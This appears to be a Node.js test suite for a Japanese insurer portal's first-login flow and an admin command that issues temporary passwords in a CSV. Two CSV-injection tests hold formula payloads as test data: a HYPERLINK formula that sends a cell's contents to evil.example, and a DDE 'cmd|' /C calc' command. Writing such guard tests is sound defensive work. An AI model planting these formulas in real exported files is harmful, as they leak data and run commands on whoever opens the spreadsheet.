// The first login (D17, R11) through nginx: a member holding the insurer's
// letter (kosmo-admin member issue-initial) logs in, is forced to 初回設定
// (1/2) パスワード変更, then goes on to メールアドレス登録 (/email?setup=1)
// when no address is registered, or to マイページ when one is; マイページ
// keeps a notice while none is registered (カ). issue-initial itself: a new
// 0600 file, never overwritten, only members who never logged in, one
// transaction, one audit row each, the password nowhere but in the file,
// valid temp_password.initial_ttl (expiry tested by ageing the stored time).
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { spawnSync } = require('node:child_process');
const { env, Client, createMember, sql, sqlValue, q } = require('../support/harness');
const { readConf } = require('../support/env');
const { stackLogs } = require('../support/recovery');

const scratch = path.join(env.KOSMO_BUILD, 'ops', 'first-login');
fs.rmSync(scratch, { recursive: true, force: true });
fs.mkdirSync(scratch, { recursive: true });

const CSV_HEADER = 'login_id,display_name,temporary_password,valid_until';
const ALPHABET = /^[23456789acdefhjknprtuvxyADEFHJLMNQRT]{12}$/;  // D6's generator: no 0/O, 1/l/I
const SETUP_HEADING = /<h1>初回設定（1\/2）パスワード変更<\/h1>/;

// kosmo-admin on the test stack; never throws on a non-zero exit.
function admin(args) {
  const r = spawnSync(path.join(env.KOSMO_BUILD, 'kosmo-admin'),
    ['--config', path.join(env.KOSMO_VAR, 'etc/kosmo.conf'), ...args], { encoding: 'utf8' });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

let serial = 0;
function outFile() {
  serial += 1;
  return path.join(scratch, `letters-${process.pid}-${serial}.csv`);
}

// The CSV's rows as objects (CRLF, RFC 4180; the test's names need no quoting).
function readCsv(file) {
  const lines = fs.readFileSync(file, 'utf8').split('\r\n');
  assert.equal(lines.pop(), '', 'the file ends with CRLF');
  assert.equal(lines.shift(), CSV_HEADER);
  return lines.map((line) => {
    const [login_id, display_name, temporary_password, valid_until] = line.split(',');
    return { login_id, display_name, temporary_password, valid_until };
  });
}

// A member as the insurer imports one who never logged in (オ), holding the
// letter of issue-initial: returns the member with the letter's password.
function letterMember(opts = {}) {
  const member = createMember({ logged_in: false, ...opts });
  const file = outFile();
  const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
  assert.equal(run.status, 0, run.stderr);
  const [row] = readCsv(file);
  assert.equal(row.login_id, member.login_id);
  return { ...member, password: row.temporary_password, row, file, run };
}

function changePassword(client, current, fresh) {
  return client.submit('/password', { current_password: current, new_password: fresh, new_password_confirm: fresh });
}

function memberState(member) {
  return sql(`SELECT password_hash, password_is_temporary, password_changed_at FROM members WHERE member_id = ${member.member_id}`)[0];
}

test('D17, R11: the letter\'s password logs in, forces 初回設定（1/2）パスワード変更, then 303 to /email?setup=1 when no address is registered', async () => {
  const member = letterMember({ email: null });
  const client = new Client();
  const login = await client.login(member);
  assert.equal(login.status, 303);
  assert.equal(login.location, '/password');
  assert.equal((await client.get('/mypage')).location, '/password', 'nothing before the change (R11)');
  const form = await client.get('/password');
  assert.equal(form.status, 200);
  assert.match(form.text, SETUP_HEADING);
  assert.match(form.text, /<title>初回設定（1\/2）パスワード変更 \| [^<]+<\/title>/);
  assert.match(form.text, /はじめてのログインです。/);
  // A refused try keeps the step's heading.
  const refused = await changePassword(client, member.password, 'short');
  assert.equal(refused.status, 200);
  assert.match(refused.text, SETUP_HEADING);

  const changed = await changePassword(client, member.password, `first own password ${member.login_id}`);
  assert.equal(changed.status, 303);
  assert.equal(changed.location, '/email?setup=1');
  assert.equal(sqlValue(`SELECT password_is_temporary FROM members WHERE member_id = ${member.member_id}`), '0');
  // 「あとで登録する」 leads on to マイページ, which now opens.
  assert.equal((await client.get('/mypage')).status, 200);
});

test('D17: with an address the insurer supplied, the first login\'s change leads to マイページ', async () => {
  const member = letterMember();
  const client = new Client();
  assert.equal((await client.login(member)).location, '/password');
  assert.match((await client.get('/password')).text, SETUP_HEADING);
  const changed = await changePassword(client, member.password, `first own password ${member.login_id}`);
  assert.equal(changed.status, 303);
  assert.equal(changed.location, '/mypage?changed=1');
});

test('D17: a forced change after an earlier login is no 初回設定 (a temporary password from 「パスワード初期化」)', async () => {
  const member = createMember({ temporary: true });  // logged in before (R1 ア)
  const client = new Client();
  assert.equal((await client.login(member)).location, '/password');
  const form = await client.get('/password');
  assert.match(form.text, /<h1>パスワード変更<\/h1>/);
  assert.doesNotMatch(form.text, /初回設定/);
  assert.match(form.text, /仮パスワードでログインしています。/);
});

test('D17 (カ): マイページ says why an address matters and links 「メールアドレスを登録する」 to /email while none is registered, and not once one is', async () => {
  const without = createMember({ email: null });
  const client = new Client();
  assert.equal((await client.login(without)).status, 303);
  const page = await client.get('/mypage');
  assert.equal(page.status, 200);
  assert.match(page.text, /<a href="\/email">メールアドレスを登録する<\/a>/);
  assert.match(page.text, /ログインIDやパスワードを忘れたときに、メールで再通知や仮パスワードの発行を受けることができません。/);

  const withAddress = createMember();
  const other = new Client();
  assert.equal((await other.login(withAddress)).status, 303);
  const registered = await other.get('/mypage');
  assert.equal(registered.status, 200);
  assert.doesNotMatch(registered.text, /メールアドレスを登録する/);
  assert.doesNotMatch(registered.text, /メールアドレスが登録されていません/);
});

test('D17: issue-initial writes a new 0600 UTF-8 CSV, one audit row per member, a D6 password valid temp_password.initial_ttl', async () => {
  const member = createMember({ logged_in: false, email: null });
  sql(`UPDATE members SET display_name = '山田 花子' WHERE member_id = ${member.member_id}`);
  const file = outFile();
  const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
  assert.equal(run.status, 0, run.stderr);
  assert.equal(fs.statSync(file).mode & 0o777, 0o600);
  const rows = readCsv(file);
  assert.equal(rows.length, 1);
  const [row] = rows;
  assert.equal(row.display_name, '山田 花子');
  assert.match(row.temporary_password, ALPHABET);
  // valid_until is the stored expiry in Japan time, temp_password.initial_ttl (30 days) from now.
  const ttl = Number(readConf(path.join(env.KOSMO_VAR, 'etc/kosmo.conf'))['temp_password.initial_ttl'] ?? 2592000);
  assert.equal(ttl, 2592000, 'the stack runs with the default');
  assert.equal(row.valid_until, sqlValue(`SELECT DATE_FORMAT(password_expires_at + INTERVAL 9 HOUR, '%Y-%m-%d %H:%i') FROM members WHERE member_id = ${member.member_id}`));
  const left = Number(sqlValue(`SELECT TIMESTAMPDIFF(SECOND, UTC_TIMESTAMP(6), password_expires_at) FROM members WHERE member_id = ${member.member_id}`));
  assert.ok(left > ttl - 120 && left <= ttl, `expires in ${left} s`);
  assert.deepEqual(sql(`SELECT event, outcome, detail FROM audit_events WHERE member_id = ${member.member_id} AND event = 'admin_action'`),
    [['admin_action', 'initial_password_issued', `ttl_seconds=${ttl}`]]);
});

// The display_name cell issue-initial writes for a member named `name`, for
// each name: one member and one file each, read back as written (quotes,
// guard and all), so a failure lists every name that came out wrong.
function displayNameCells(names) {
  return names.map((name) => {
    const member = createMember({ logged_in: false, email: null });
    sql(`UPDATE members SET display_name = ${q(name)} WHERE member_id = ${member.member_id}`);
    const file = outFile();
    const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
    assert.equal(run.status, 0, run.stderr);
    const text = fs.readFileSync(file, 'utf8');
    const start = `${CSV_HEADER}\r\n${member.login_id},`;
    assert.ok(text.startsWith(start), JSON.stringify(text));
    // What follows the cell: ,password (12),valid_until CRLF.
    return text.slice(start.length).replace(/,[^,\r\n]{12},[^,\r\n]*\r\n$/, '');
  });
}

// The display names are the insurer's data: a cell that starts with = + - @,
// a tab or a CR is a formula once the sysadmin opens the CSV in a
// spreadsheet (CSV injection, OWASP). Such a cell is quoted with a single
// quote in front; a name with the same characters further in stays as it is.
test('D17: issue-initial guards display names a spreadsheet would run as formulas (CSV injection)', async () => {
  const names = [
    ['=HYPERLINK("https://evil.example/?"&A2,"詳細")', '"\'=HYPERLINK(""https://evil.example/?""&A2,""詳細"")"'],
    ['+81 3 1234 5678', '"\'+81 3 1234 5678"'],
    ['-2+3+cmd|\' /C calc\'!A0', '"\'-2+3+cmd|\' /C calc\'!A0"'],
    ['@SUM(1+1)*cmd', '"\'@SUM(1+1)*cmd"'],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['山田=花子', '山田=花子'],
  ];
  assert.deepEqual(displayNameCells(names.map(([name]) => name)), names.map(([, cell]) => cell));
});

// Japanese Excel also starts a formula from the full-width signs ＝ ＋ － ＠
// (U+FF1D, U+FF0B, U+FF0D, U+FF20), and an insurer's names are typed with a
// Japanese IME: they are guarded as their ASCII twins. Only those four: a
// full-width sign further in, or another full-width character first (（,
// whose UTF-8 starts with the same two bytes), stays as it is.
test('D17: issue-initial guards display names starting with the full-width signs ＝ ＋ － ＠ (CSV injection)', async () => {
  const names = [
    ['＝HYPERLINK("https://evil.example/?"&A2,"詳細")', '"\'＝HYPERLINK(""https://evil.example/?""&A2,""詳細"")"'],
    ['＋81 3 1234 5678', '"\'＋81 3 1234 5678"'],
    ['－2＋3＋cmd|\' /C calc\'!A0', '"\'－2＋3＋cmd|\' /C calc\'!A0"'],
    ['＠SUM(1＋1)*cmd', '"\'＠SUM(1＋1)*cmd"'],
    ['山田＝花子', '山田＝花子'],
    ['花子＋＠－', '花子＋＠－'],
    ['（株）山田＝花子', '（株）山田＝花子'],
  ];
  assert.deepEqual(displayNameCells(names.map(([name]) => name)), names.map(([, cell]) => cell));
});

test('D17: issue-initial never overwrites a file: exit 73, the file and every member unchanged', async () => {
  const member = createMember({ logged_in: false });
  const before = memberState(member);
  const file = outFile();
  fs.writeFileSync(file, 'letters printed yesterday\n', { mode: 0o644 });
  const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
  assert.equal(run.status, 73);
  assert.match(run.stderr, /already exists; it is never overwritten/);
  assert.match(run.stderr, /nothing was changed/);
  assert.equal(fs.readFileSync(file, 'utf8'), 'letters printed yesterday\n');
  assert.equal(fs.statSync(file).mode & 0o777, 0o644);
  assert.deepEqual(memberState(member), before);
  assert.equal(sqlValue(`SELECT COUNT(*) FROM audit_events WHERE member_id = ${member.member_id} AND outcome = 'initial_password_issued'`), '0');
  // A symbolic link planted at the path is refused the same way.
  const link = outFile();
  fs.symlinkSync(path.join(scratch, 'nowhere.csv'), link);
  assert.equal(admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', link]).status, 73);
  assert.equal(fs.existsSync(path.join(scratch, 'nowhere.csv')), false);
  assert.deepEqual(memberState(member), before);
});

test('D17: --login-id refuses a member who has logged in, and an unknown one, with a clear message; no file, nothing changed', async () => {
  const member = createMember();  // logged in (ア)
  const before = memberState(member);
  const file = outFile();
  const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
  assert.equal(run.status, 65);
  assert.match(run.stderr, new RegExp(`member ${member.login_id} has already logged in; an initial password is only for members who never logged in`));
  assert.equal(fs.existsSync(file), false, 'no file is left behind');
  assert.deepEqual(memberState(member), before);
  const unknown = admin(['member', 'issue-initial', '--login-id', '0000000000001', '--out', file]);
  assert.equal(unknown.status, 67);
  assert.equal(fs.existsSync(file), false);
  assert.equal(admin(['member', 'issue-initial', '--out', file]).status, 64, 'neither selector');
  assert.equal(admin(['member', 'issue-initial', '--login-id', member.login_id, '--never-logged-in', '--out', file]).status, 64, 'both');
  assert.equal(admin(['member', 'issue-initial', '--login-id', member.login_id]).status, 64, 'no --out');
});

test('D17: --never-logged-in selects exactly the members who never logged in and are not disabled', async () => {
  const never = [createMember({ logged_in: false }), createMember({ logged_in: false, email: null })];
  const disabled = createMember({ logged_in: false });
  assert.equal(admin(['member', 'disable', disabled.login_id]).status, 0);
  const loggedIn = createMember();
  const untouched = [disabled, loggedIn].map((m) => [m, memberState(m)]);
  // Every other member who never logged in (other tests', the demo members)
  // is marked logged in for the run and restored after it, so their
  // passwords stay as they are; the tests of one stack run one at a time.
  const ours = [...never, disabled, loggedIn].map((m) => m.member_id).join(',');
  const others = sql(`SELECT member_id FROM members WHERE last_login_at IS NULL AND member_id NOT IN (${ours})`).map((r) => r[0]);
  if (others.length) sql(`UPDATE members SET last_login_at = '2000-01-01' WHERE member_id IN (${others.join(',')})`);
  try {
    const file = outFile();
    const run = admin(['member', 'issue-initial', '--never-logged-in', '--out', file]);
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stdout, /issued initial temporary passwords to 2 member\(s\)/);
    assert.deepEqual(readCsv(file).map((r) => r.login_id).sort(), never.map((m) => m.login_id).sort());
    for (const [m, before] of untouched) assert.deepEqual(memberState(m), before, `${m.login_id} is unchanged`);
    for (const m of never)
      assert.equal(sqlValue(`SELECT password_is_temporary FROM members WHERE member_id = ${m.member_id}`), '1');
  } finally {
    if (others.length) sql(`UPDATE members SET last_login_at = NULL WHERE member_id IN (${others.join(',')})`);
  }
});

test('D17, D8, D12: the letter\'s password is in the file only: not on stdout or stderr, in no audit row, in no log of the stack', async () => {
  const member = letterMember({ email: null });
  const client = new Client();
  assert.equal((await client.login(member)).status, 303);
  assert.equal((await changePassword(client, member.password, `first own password ${member.login_id}`)).status, 303);
  assert.ok(!member.run.stdout.includes(member.password), 'stdout');
  assert.ok(!member.run.stderr.includes(member.password), 'stderr');
  const audit = sql('SELECT CONCAT_WS(\' \', event, outcome, detail, user_agent) FROM audit_events').map((r) => r[0]).join('\n');
  assert.ok(!audit.includes(member.password), 'an audit row holds the password');
  await new Promise((r) => setTimeout(r, 300));
  for (const { file, text } of stackLogs()) assert.ok(!text.includes(member.password), `the password is in ${file}`);
});

test('D17, D6: the letter\'s password works until temp_password.initial_ttl has passed, and not after', async () => {
  const member = letterMember();
  // Ages the stored expiry as if time had passed: ttl - 10 s (10 s left), then 20 s more.
  const ttl = 2592000;
  sql(`UPDATE members SET password_expires_at = password_expires_at - INTERVAL ${ttl - 10} SECOND WHERE member_id = ${member.member_id}`);
  assert.equal((await new Client().login(member)).location, '/password', 'still valid just before');
  sql(`UPDATE members SET password_expires_at = password_expires_at - INTERVAL 20 SECOND WHERE member_id = ${member.member_id}`);
  const late = await new Client().login(member);
  assert.equal(late.status, 200);
  assert.match(late.text, /ログインIDまたはパスワードが正しくありません。/);
  assert.equal(sqlValue(`SELECT outcome FROM audit_events WHERE member_id = ${member.member_id} AND event = 'login_failed' ORDER BY audit_id DESC LIMIT 1`),
    'temporary_password_expired');
});
